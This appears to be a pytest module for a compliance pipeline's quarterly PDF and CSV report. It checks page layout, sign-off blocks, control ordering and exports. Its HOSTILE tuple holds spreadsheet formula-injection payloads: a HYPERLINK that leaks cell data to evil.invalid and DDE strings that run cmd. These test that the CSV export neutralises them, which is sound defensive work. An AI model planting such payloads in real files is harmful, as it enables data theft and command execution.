"""The quarterly report on paper (A4 and Letter): what an auditor reads in the PDF.

One generated quarter (2026-Q3, no run before it in the ledger) big enough to span many
pages: 60 runs of three repositories with long names, 50 high findings per repository
open all quarter (150 SLA breaches) plus checkov findings and criticals closed late,
runs that could not re-assess, a dozen waivers, and controls whose ids sort wrong as
text (PCI DSS `10.2.1` before `3.5.1`, SOC 2 `CC6.10` before `CC6.2`). It is reported
through the CLI once per paper size (the PDFs are shared by the tests of this module)
and read back with poppler's `pdftotext`, page by page: what is clipped, split across
pages or missing there is not in its text.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from pipeline import cli, ledger, resources
from pipeline.report import quarterly

NOW = "2026-10-02T08:00:00Z"  # the report date: 2026-Q3 is over
PERIOD = "2026-Q3"
START = dt.date(2026, 7, 1)
RUNS = 60
REPOS = (
    "github.com/acme-financial-services/payments-settlement-reconciliation-service",
    "github.com/acme-financial-services/customer-identity-and-access-management-platform",
    "gitlab.example.internal/infrastructure/terraform-modules-shared-networking",
)
SCANNERS = ("detect-secrets", "bandit", "pip-audit", "checkov")
CONTROLS = {
    # Listed in text order, which is wrong for people: 10.2.1 < 3.5.1, CC6.10 < CC6.2.
    "pci-dss": ("10.2.1", "11.3.1", "3.5.1", "4.2.1", "6.2.4", "6.3.3", "8.6.2"),
    "soc2": ("CC6.1", "CC6.10", "CC6.2", "CC6.6", "CC7.1", "CC8.1"),
    "iso27001": ("A.5.17", "A.8.2", "A.8.24", "A.8.28", "A.8.9"),
    "hipaa": ("164.308(a)(1)(ii)(A)", "164.312(a)(2)(iv)", "164.312(e)(1)"),
}
NATURAL = {
    "pci-dss": ["3.5.1", "4.2.1", "6.2.4", "6.3.3", "8.6.2", "10.2.1", "11.3.1"],
    "soc2": ["CC6.1", "CC6.2", "CC6.6", "CC6.10", "CC7.1", "CC8.1"],
    "iso27001": ["A.5.17", "A.8.2", "A.8.9", "A.8.24", "A.8.28"],
    "hipaa": ["164.308(a)(1)(ii)(A)", "164.312(a)(2)(iv)", "164.312(e)(1)"],
}
HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C notepad'!A1",
    "\tleading tab",
    "\rcarriage return",
)
"""Finding titles a scanned repository controls (a bandit rule message, a file name)."""


def _commit(i: int) -> str:
    return hashlib.sha1(f"commit-{i}".encode()).hexdigest()


def _manifest(i: int) -> str:
    return "sha256:" + hashlib.sha256(f"manifest-{i}".encode()).hexdigest()


def _day(i: int) -> dt.date:
    """Run i of the quarter: every day or two, 2026-07-01 … 2026-09-27."""
    return START + dt.timedelta(days=(i * 3) // 2)


def _finding(
    fp: str,
    severity: str,
    title: str,
    path: str,
    tool: str = "bandit",
    resource: str | None = None,
    waiver_expires: str | None = None,
) -> dict[str, Any]:
    f: dict[str, Any] = {
        "fingerprint": fp,
        "tool": tool,
        "rule_id": f"R-{fp}",
        "title": title,
        "severity": severity,
        "location": {"path": path, "start_line": 1, "end_line": 1, "resource": resource},
        "status": "active",
        "suppression": None,
    }
    if waiver_expires is not None:
        f["status"] = "suppressed"
        f["suppression"] = {
            "kind": "waiver",
            "reason": "Accepted risk: the legacy settlement integration is retired in Q1 2027 "
            "and compensating monitoring is in place (RISK-2291)",
            "owner": "platform-security-engineering@acme-financial.example",
            "approved_by": "ciso-office@acme-financial.example",
            "expires": waiver_expires,
            "source": f"compliance-waivers.yaml:{fp}-accepted-risk-for-the-legacy-integration",
        }
    return f


def _findings(r: int, j: int, failed: tuple[str, ...]) -> list[dict[str, Any]]:
    """What run j of repository r reports (a failed scanner reports nothing)."""
    short = REPOS[r].rsplit("/", 1)[1]
    found = []
    for k in range(50):  # open all quarter: a breach each (high SLA 30 days)
        title = HOSTILE[k] if r == 0 and k < len(HOSTILE) else f"Use of a weak cryptographic hash {k}"
        path = f"services/{short}/src/integrations/legacy/adapters/module_{k:03d}_reconciliation.py"
        found.append(_finding(f"B{r}-{k:02d}", "high", title, path))
    if r == 0:  # checkov findings, its last run with checkov failed: open, not re-assessed
        for k in range(20):
            found.append(
                _finding(
                    f"K{k:02d}",
                    "medium",
                    "S3 bucket without server-side encryption",
                    f"terraform/modules/storage/bucket_{k:02d}/main.tf",
                    tool="checkov",
                    resource=f"aws_s3_bucket.audit_logs_{k:02d}",
                )
            )
    if r == 1 and j < 6:  # critical, gone on 2026-08-03 (bandit failed on 07-28): closed late
        for k in range(5):
            found.append(_finding(f"C{k}", "critical", "Hard-coded password", f"app/settings_{k}.py"))
    for k in range(r, 12, 3):  # waivers, expiring before, during and after the quarter
        expires = ("2026-08-15", "2026-09-20", "2026-12-31", "2027-03-31")[k % 4]
        found.append(
            _finding(f"W{k:02d}", "low", "assert used", f"tests/test_{k}.py", waiver_expires=expires)
        )
    return [f for f in found if f["tool"] not in failed]


def _controls(i: int, failed: tuple[str, ...]) -> list[dict[str, Any]]:
    out = []
    for fw, ids in CONTROLS.items():
        for p, cid in enumerate(ids):
            status = "FAIL" if (i + p) % 7 == 0 else "PASS"
            if (fw, cid) == ("hipaa", "164.308(a)(1)(ii)(A)"):
                status = "MANUAL"  # never assessed
            elif (fw, cid) == ("pci-dss", "6.2.4") and "bandit" in failed:
                status = "ERROR"
            out.append({"framework": fw, "control_id": cid, "title": f"Safeguard {cid}", "status": status})
    return out


def _doc(i: int) -> tuple[str, dict[str, Any]]:
    r, j = i % 3, i // 3
    failed: tuple[str, ...] = ()
    if r == 1 and j % 4 == 2:
        failed = ("bandit",)
    if r == 0 and j == RUNS // 3 - 1:
        failed = ("checkov",)
    day = _day(i)
    doc = {
        "started_at": f"{day.isoformat()}T06:00:00Z",
        "finished_at": f"{day.isoformat()}T06:04:00Z",
        "target": "/repo",
        "git": {"commit": _commit(i), "branch": "main", "remote": f"git@{REPOS[r]}.git", "dirty": False},
        "pipeline_version": "0.1.0",
        "verdict": "fail",
        "interrupted": None,
        "advisory_database": {"age_days": 1 + i % 3},
        "inventory": {"files": 400, "skipped": []},
        "scanners": [
            {
                "name": name,
                "status": "failed" if name in failed else "ok",
                "tool": {"name": name, "version": "1.0"},
                "not_assessed": [],
            }
            for name in SCANNERS
        ],
        "findings": _findings(r, j, failed),
        "controls": _controls(i, failed),
    }
    return REPOS[r], doc


def _write_ledger(db: str) -> None:
    book = ledger.Ledger(db)
    try:
        for i in range(RUNS):
            repo, doc = _doc(i)
            record = ledger.record_from_findings_json(doc, _manifest(i))
            book.append(repo, _manifest(i), doc["started_at"], record)
    finally:
        book.close()


# --- reading the PDF back -------------------------------------------------------------


def _pdftotext(pdf: Path, *options: str) -> list[str]:
    """The text of each page (pdftotext ends every page with a form feed)."""
    done = subprocess.run(["pdftotext", *options, str(pdf), "-"], check=True, capture_output=True)
    return done.stdout.decode("utf-8").split("\f")[:-1]


@dataclass(frozen=True)
class Word:
    text: str
    x0: float
    y0: float
    x1: float
    y1: float


def _words(pdf: Path, page: int) -> list[Word]:
    """Each word of one page with its box, in points from the top left."""
    done = subprocess.run(
        ["pdftotext", "-bbox", "-f", str(page), "-l", str(page), str(pdf), "-"],
        check=True,
        capture_output=True,
    )
    pattern = r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>'
    return [
        Word(text, float(x0), float(y0), float(x1), float(y1))
        for x0, y0, x1, y1, text in re.findall(pattern, done.stdout.decode("utf-8"))
    ]


def _flat(text: str) -> str:
    """Without any whitespace: a value the PDF wraps over lines is still one string."""
    return re.sub(r"\s+", "", text)


@dataclass(frozen=True)
class Rendered:
    paper: str
    folder: Path
    pdf: Path
    html: str
    pages: list[str]
    """pdftotext -raw per page (content order: a table cell's lines stay together)."""
    layout: list[str]
    """pdftotext -layout per page."""


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Rendered]]:
    root = tmp_path_factory.mktemp("paper")
    db = str(root / "ledger.sqlite")
    _write_ledger(db)
    out: dict[str, Rendered] = {}
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(cli, "utc_now", lambda: NOW)
        for paper, flags in (("a4", []), ("letter", ["--paper", "letter"])):  # a4 is the default
            folder = root / paper
            argv = ["report", "quarterly", "--quarter", PERIOD, "--ledger", db, "-o", str(folder), *flags]
            rc = cli.main(argv)
            pdf = folder / f"compliance-{PERIOD}.pdf"
            if rc != 0 or not pdf.exists():
                continue  # that paper's tests fail with the reason
            html = (folder / f"compliance-{PERIOD}.html").read_text(encoding="utf-8")
            out[paper] = Rendered(
                paper, folder, pdf, html, _pdftotext(pdf, "-raw"), _pdftotext(pdf, "-layout")
            )
    yield out


def _paper(rendered: dict[str, Rendered], paper: str) -> Rendered:
    assert paper in rendered, f"`report quarterly` did not write a PDF on {paper} paper"
    return rendered[paper]


def _csv(r: Rendered, table: str) -> list[dict[str, str]]:
    data = (r.folder / f"compliance-{PERIOD}-{table}.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(data, newline="")))


def _section(pages: list[str], first: str, until: str) -> str:
    text = "\n".join(pages)
    assert first in text, first
    start = text.index(first)
    end = text.index(until, start) if until in text[start:] else len(text)
    return text[start:end]


PAPERS = pytest.mark.parametrize("paper", ["a4", "letter"])


# --- the tests --------------------------------------------------------------------------


def test_the_pdf_has_the_requested_paper_size(rendered: dict[str, Rendered]) -> None:
    for paper, points in (("a4", (595, 842)), ("letter", (612, 792))):
        r = _paper(rendered, paper)
        info = subprocess.run(["pdfinfo", str(r.pdf)], check=True, capture_output=True, text=True).stdout
        size = re.search(r"Page size:\s+([\d.]+) x ([\d.]+) pts", info)
        assert size is not None, info
        assert (round(float(size[1])), round(float(size[2]))) == points, (paper, info)


@PAPERS
def test_every_column_header_of_every_table_is_printed(rendered: dict[str, Rendered], paper: str) -> None:
    r = _paper(rendered, paper)
    headers = {
        re.sub(r"<[^>]+>", "", h).strip() for h in re.findall(r'<th scope="col"[^>]*>(.*?)</th>', r.html)
    }
    # The columns the auditor found clipped, whatever the template calls the others.
    assert {"Expires", "Manifest digest", "Verdict", "Ledger chain"} <= headers
    text = _flat("".join(r.pages))
    missing = sorted(h for h in headers if _flat(h) not in text)
    assert not missing, f"column headers not in the PDF's text on {paper}: {missing}"
    # Nothing is drawn beyond the page's right edge (what is clipped is not extracted at all,
    # so also: every waiver's expiry date is there).
    for expires in ("2026-08-15", "2026-09-20", "2026-12-31", "2027-03-31"):
        assert expires in _section(r.pages, "Waiver register", "Coverage gaps"), expires


@PAPERS
def test_every_run_digest_and_commit_is_on_paper_or_exported(
    rendered: dict[str, Rendered], paper: str
) -> None:
    r = _paper(rendered, paper)
    flat_pages = [_flat(p) for p in r.pages]
    assert (r.folder / f"compliance-{PERIOD}-evidence.csv").exists(), sorted(
        p.name for p in r.folder.iterdir()
    )
    rows = _csv(r, "evidence")
    whole = json.loads((r.folder / f"compliance-{PERIOD}.json").read_text(encoding="utf-8"))
    in_json = {(e["commit"], e["manifest"]) for e in whole["summary"]["evidence"]}
    for i in range(RUNS):
        assert any(row["commit"] == _commit(i) and row["manifest"] == _manifest(i) for row in rows), i
        assert (_commit(i), _manifest(i)) in in_json, i
        # On paper the full manifest digest, wrapped but never split across two pages, on a
        # page that repeats the evidence index's column headers.
        pages = [p for p, text in enumerate(flat_pages) if _manifest(i) in text]
        assert len(pages) == 1, (i, pages)
        assert "Manifestdigest" in flat_pages[pages[0]]
        assert _commit(i)[:12] in flat_pages[pages[0]]


def test_the_manifest_lists_every_export_with_its_digest(rendered: dict[str, Rendered]) -> None:
    r = _paper(rendered, "a4")
    manifest = json.loads((r.folder / f"compliance-{PERIOD}.manifest.json").read_text(encoding="utf-8"))
    listed = manifest["files"]
    on_disk = {p.name for p in r.folder.iterdir()} - {f"compliance-{PERIOD}.manifest.json"}
    assert set(listed) == on_disk
    for table in (
        "breaches",
        "open-not-reassessed",
        "not-reassessed-runs",
        "waivers",
        "evidence",
        "controls",
    ):
        assert f"compliance-{PERIOD}-{table}.csv" in listed, table
    assert f"compliance-{PERIOD}.json" in listed
    for name, entry in listed.items():
        data = (r.folder / name).read_bytes()
        assert entry == {"sha256": hashlib.sha256(data).hexdigest(), "bytes": len(data)}, name


@PAPERS
def test_every_page_is_numbered_and_has_the_running_header(rendered: dict[str, Rendered], paper: str) -> None:
    r = _paper(rendered, paper)
    total = len(r.pages)
    assert total > 2
    for n, text in enumerate(r.layout, start=1):
        assert re.search(rf"\bPage {n} of {total}\b", text), f"page {n} of {total}: no page number"
        flat = _flat(text)
        assert PERIOD in flat and _flat(NOW) in flat, f"page {n}: no running header"
        for repo in REPOS:
            assert repo in flat, f"page {n}: {repo} not in the running header"


@PAPERS
def test_long_tables_are_summarised_on_paper_and_exported_in_full(
    rendered: dict[str, Rendered], paper: str
) -> None:
    r = _paper(rendered, paper)
    text = " ".join(" ".join(p.split()) for p in r.pages)
    # 150 high open all quarter, 20 medium (opened 07-01: 91 days > 90), 5 critical closed late:
    # the first rows on paper, then where the others are.
    assert "SLA breaches (175)" in text
    assert f"150 more in compliance-{PERIOD}-breaches.csv" in text
    assert len(r.pages) <= 20, f"{len(r.pages)} pages on {paper}"
    assert len(_csv(r, "breaches")) == 175
    unassessed = _csv(r, "open-not-reassessed")
    assert len(unassessed) == 20 and {u["repo"] for u in unassessed} == {REPOS[0]}
    assert len(_csv(r, "not-reassessed-runs")) == 6  # repository 1's 5 runs without bandit, 0's last
    controls = _csv(r, "controls")
    assert len(controls) == sum(len(ids) for ids in CONTROLS.values())
    assert all(len(c["history"].split()) == 2 * RUNS for c in controls)  # "date STATUS" per run


def _first_below(words: list[Word], text: str, top: float) -> Word:
    return min((w for w in words if w.text == text and w.y0 > top), key=lambda w: w.y0)


@PAPERS
def test_the_sign_off_block_is_on_one_page_with_room_to_sign(
    rendered: dict[str, Rendered], paper: str
) -> None:
    r = _paper(rendered, paper)
    (page,) = [n for n, text in enumerate(r.pages, start=1) if "Prepared by" in text]
    text = r.pages[page - 1]
    assert "Sign-off" in text, f"the sign-off heading is not on page {page}, its first row's"
    tail = text[text.index("Sign-off") :]
    assert "Prepared by" in tail and "Reviewed by" in tail and "Approved by" in tail, page
    words = _words(r.pdf, page)
    top = max(w.y0 for w in words if w.text == "Sign-off")
    prepared, reviewed, approved = (_first_below(words, w, top) for w in ("Prepared", "Reviewed", "Approved"))
    # Rows tall enough to sign in (at least 12 mm apart) …
    assert reviewed.y0 - prepared.y0 >= 34 and approved.y0 - reviewed.y0 >= 34, (prepared, reviewed, approved)
    # … and a signature column at least 6 cm wide.
    signature, date = _first_below(words, "Signature", top), _first_below(words, "Date", top)
    assert date.x0 - signature.x0 >= 170, (signature, date)


def test_the_sign_off_block_is_kept_whole_wherever_it_falls(
    rendered: dict[str, Rendered], tmp_path: Path
) -> None:
    """The report's own styles and sign-off block after a spacer of every height that puts it
    across a page break: it moves to the next page whole, heading included."""
    from weasyprint import HTML

    r = _paper(rendered, "a4")
    head = r.html[: r.html.index("<body>")]
    block = re.search(r'<section[^>]*aria-labelledby="signoff".*?</section>', r.html, re.S)
    assert block is not None
    for mm in range(150, 260, 10):
        pdf = tmp_path / f"after-{mm}mm.pdf"
        HTML(string=f'{head}<body><div style="height:{mm}mm"></div>{block[0]}</body></html>').write_pdf(pdf)
        pages = _pdftotext(pdf, "-raw")
        where = {
            label: [n for n, text in enumerate(pages, start=1) if label in text]
            for label in ("Sign-off", "Prepared by", "Reviewed by", "Approved by")
        }
        assert len({tuple(found) for found in where.values()}) == 1, (mm, where)


def test_the_natural_order_key() -> None:
    key = quarterly.natural_key
    assert sorted(["10.2.1", "3.5.1", "11.3.1", "3.10.1", "3.5.10"], key=key) == [
        "3.5.1",
        "3.5.10",
        "3.10.1",
        "10.2.1",
        "11.3.1",
    ]
    assert sorted(["CC6.10", "CC6.2", "CC6.1", "CC10.1", "CC7.1"], key=key) == [
        "CC6.1",
        "CC6.2",
        "CC6.10",
        "CC7.1",
        "CC10.1",
    ]
    assert sorted(["A.8.2", "A.5.17", "A.8.28", "A.8.9", "A.5.7"], key=key) == [
        "A.5.7",
        "A.5.17",
        "A.8.2",
        "A.8.9",
        "A.8.28",
    ]
    assert sorted(["AC-2", "ac-10", "AC-1", "AU-2", "A"], key=key) == ["A", "AC-1", "AC-2", "ac-10", "AU-2"]
    # A total order: ids equal but for zeros or case still sort one way, whatever came first.
    assert sorted(["A.01", "A.1", "a.1"], key=key) == sorted(["a.1", "A.1", "A.01"], key=key)


@PAPERS
def test_controls_in_natural_order_with_framework_titles(rendered: dict[str, Rendered], paper: str) -> None:
    r = _paper(rendered, paper)
    section = _section(r.pages, "Controls at period end", "Findings and remediation")
    tokens = section.split()
    for fw in ("pci-dss", "soc2", "iso27001"):
        seen = [t for t in tokens if t in NATURAL[fw]]
        assert list(dict.fromkeys(seen)) == NATURAL[fw], (fw, seen)
    flat = _flat(section)
    for title in (
        "PCI DSS 4.0",
        "SOC 2 — Trust Services Criteria",
        "ISO/IEC 27001:2022",
        "HIPAA Security Rule",
    ):
        assert _flat(title) in flat, title
    for fw in ("pci-dss", "soc2", "iso27001", "hipaa"):
        assert not re.search(rf"^{re.escape(fw)}$", section, re.M), f"{fw} shown by its id"
    whole = json.loads((r.folder / f"compliance-{PERIOD}.json").read_text(encoding="utf-8"))
    assert {fw: [c["id"] for c in rows] for fw, rows in whole["summary"]["frameworks"].items()} == NATURAL
    in_csv = [(c["framework"], c["control"]) for c in _csv(r, "controls")]
    assert in_csv == [(fw, cid) for fw in sorted(NATURAL) for cid in NATURAL[fw]]


@PAPERS
def test_history_strips_are_dated(rendered: dict[str, Rendered], paper: str) -> None:
    r = _paper(rendered, paper)
    first, last = _day(0).isoformat(), _day(RUNS - 1).isoformat()
    section = _section(r.pages, "Controls at period end", "Findings and remediation")
    n = sum(len(ids) for ids in CONTROLS.values())
    assert section.count(first) >= n and section.count(last) >= n, (section.count(first), section.count(last))
    titles = re.findall(r'<svg class="hist".*?<title>(.*?)</title>', r.html)
    assert len(titles) == n
    assert all(f"{RUNS} runs from {first} to {last}" in t for t in titles), titles[:2]


@PAPERS
def test_no_previous_period_says_so_instead_of_rows_of_dashes(
    rendered: dict[str, Rendered], paper: str
) -> None:
    r = _paper(rendered, paper)
    section = _section(r.pages, "Changes against before the period", "Evidence index")
    assert "No runs before this period in the ledger" in " ".join(section.split())
    assert "—" not in section


def test_changes_list_only_controls_that_changed(tmp_path: Path) -> None:
    def doc(day: str, statuses: dict[str, str]) -> dict[str, Any]:
        _, d = _doc(0)
        d["started_at"], d["findings"] = f"{day}T06:00:00Z", []
        d["controls"] = [
            {"framework": "soc2", "control_id": cid, "title": cid, "status": st}
            for cid, st in statuses.items()
        ]
        return d

    db = str(tmp_path / "l.sqlite")
    book = ledger.Ledger(db)
    before = doc("2026-06-15", {"CC6.1": "PASS", "CC6.2": "FAIL", "CC6.10": "PASS"})
    now = doc("2026-08-01", {"CC6.1": "FAIL", "CC6.2": "FAIL", "CC6.10": "PASS", "CC7.1": "PASS"})
    for i, d in enumerate((before, now)):
        book.append("repo", f"k{i}", d["started_at"], ledger.record_from_findings_json(d, _manifest(i)))
    records = list(book.records())
    book.close()
    s = quarterly.summarise(
        quarterly.load_quarter(records, PERIOD, set()),
        quarterly.DEFAULT_SLA_DAYS,
        framework_titles={"soc2": "SOC 2 — Trust Services Criteria 2017"},
    )
    assert [(c["control"], c["before"], c["now"]) for c in s["changes"]] == [("soc2 CC6.1", "PASS", "FAIL")]
    assert [(c["control"], c["now"]) for c in s["new_controls"]] == [("soc2 CC7.1", "PASS")]
    assert s["runs_before"] == 1
    assert s["framework_titles"] == {"soc2": "SOC 2 — Trust Services Criteria 2017"}
    page = quarterly.render_html({**s, "chain_heads": [], "chain_records": 2}, resources.templates_dir(), NOW)
    assert "No runs before this period" not in page and "CC7.1" in page


def test_csv_cells_cannot_start_a_spreadsheet_formula(rendered: dict[str, Rendered]) -> None:
    from pipeline.report import exports

    r = _paper(rendered, "a4")
    files = dict(
        exports.csv_files(json.loads((r.folder / f"compliance-{PERIOD}.json").read_bytes())["summary"])
    )
    assert files, "no CSV files"
    for name, data in files.items():
        assert (r.folder / name).read_bytes() == data, name
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    breaches = files[f"compliance-{PERIOD}-breaches.csv"].decode("utf-8-sig")
    titles = {row["title"] for row in csv.DictReader(io.StringIO(breaches, newline=""))}
    for hostile in HOSTILE:
        assert "'" + hostile in titles, hostile
    # The guard is the CSV's alone: the JSON keeps the values as they were.
    whole = (r.folder / f"compliance-{PERIOD}.json").read_text(encoding="utf-8")
    assert json.dumps(HOSTILE[0]) in whole
    # A sign inside a cell is left alone, one after leading blanks is not; numbers stay numbers.
    summary = {
        "period": "P",
        "breaches": [{"title": "a=b", "path": " =x", "days": -3, "fingerprint": "-fp"}],
    }
    row = next(
        csv.DictReader(
            io.StringIO(exports.csv_files(summary)["compliance-P-breaches.csv"].decode("utf-8-sig"))
        )
    )
    assert (row["title"], row["path"], row["days"], row["fingerprint"]) == ("a=b", "' =x", "-3", "'-fp")
